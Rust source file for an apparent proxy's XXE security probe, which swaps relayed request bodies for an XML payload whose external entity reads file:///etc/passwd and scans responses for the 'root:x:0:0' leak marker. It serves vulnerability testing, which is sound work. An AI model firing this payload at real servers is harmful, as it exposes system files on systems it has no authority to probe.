//! XXE security probe.
//!
//! When enabled, every relayed request body is replaced with a fixed XML
//! document declaring an external entity that points at `/etc/passwd`, and
//! every origin response is scanned for a line of that file. The proxy
//! never parses the XML itself; it only injects and observes.

use axum::body::Bytes;

/// Payload sent to the origin in place of the client body.
pub const XXE_PAYLOAD: &str = r#"<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE foo [
<!ELEMENT foo ANY >
<!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
<foo>&xxe;</foo>"#;

/// A line that only appears when the passwd file leaked into a response.
pub const LEAK_MARKER: &str = "root:x:0:0";

/// Evidence that the origin expanded the injected entity.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProbeFinding {
    /// Marker that matched.
    pub marker: &'static str,
    /// Byte offset of the first match in the response body.
    pub offset: usize,
}

/// Probe mode switch. Read-only after startup.
#[derive(Debug, Clone, Copy, Default)]
pub struct SecurityProbe {
    enabled: bool,
}

impl SecurityProbe {
    pub fn new(enabled: bool) -> Self {
        Self { enabled }
    }

    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Body to forward to the origin for a request that arrived with `original`.
    pub fn outgoing_body(&self, original: Bytes) -> Bytes {
        if self.enabled {
            Bytes::from_static(XXE_PAYLOAD.as_bytes())
        } else {
            original
        }
    }

    /// Scan a response body for the leak marker. Always `None` when disabled.
    pub fn inspect_response(&self, body: &[u8]) -> Option<ProbeFinding> {
        if !self.enabled {
            return None;
        }
        find(body, LEAK_MARKER.as_bytes()).map(|offset| ProbeFinding {
            marker: LEAK_MARKER,
            offset,
        })
    }
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || haystack.len() < needle.len() {
        return None;
    }
    haystack
        .windows(needle.len())
        .position(|window| window == needle)
}
